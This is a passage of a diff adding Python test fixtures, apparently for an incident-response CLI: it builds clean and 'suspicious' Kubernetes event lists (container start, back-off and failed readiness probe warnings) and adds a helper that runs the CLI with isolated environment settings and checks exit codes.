+            "Pulled",
+            'Container image "registry.example/shop/web:1.4.2" already present on machine',
+            at(2),
+        ),
+        event(3, "Created", "Created container web", at(3)),
+        event(4, "Started", "Started container web", at(5)),
+    ]
+    if suspicious:
+        items += [
+            event(
+                5,
+                "BackOff",
+                "Back-off restarting failed container agent",
+                at(1800),
+                at(1801),
+                "Warning",
+            ),
+            event(
+                6,
+                "Unhealthy",
+                "Readiness probe failed: HTTP probe failed with statuscode: 502",
+                "2025-03-14T09:15:00Z",
+                "2025-03-14T09:17:00Z",
+                "Warning",
+                3,
+            ),
+        ]
+    # core/v1 Events as a list (what k8s/events.json holds); the clean bundle uses an EventList
+    # object to prove both shapes read
+    return items if suspicious else {"apiVersion": "v1", "kind": "EventList", "items": items}
+
+
+def _owners() -> list[dict[str, Any]]:
+    return [
+        {"kind": "ReplicaSet", "name": "web-5d9c", "namespace": "shop"},
+        {"kind": "Deployment", "name": "web", "namespace": "shop"},
+    ]
+
+
+# -- running the CLI -----------------------------------------------------------------------------
+
+
+@dataclass
+class Ran:
+    code: int
+    out: str
+    err: str
+
+    @property
+    def lines(self) -> list[str]:
+        return self.out.splitlines()
+
+
+def ir(*args: str | Path, cache: Path) -> Ran:
+    """The real entry point (exit codes decided in ir.cli.main), output captured."""
+    runner = CliRunner()
+    with runner.isolation(env={"XDG_CACHE_HOME": str(cache), "IR_VERIFY_KEY": None}) as streams:
+        try:
+            main([str(a) for a in args])
+            code = 0
+        except SystemExit as exc:
+            code = int(exc.code or 0)
+    out, err = streams[0].getvalue().decode(), streams[1].getvalue().decode()
+    assert "Traceback" not in out + err
+    assert code != ExitCode.INTERNAL, err
+    return Ran(code, out, err)
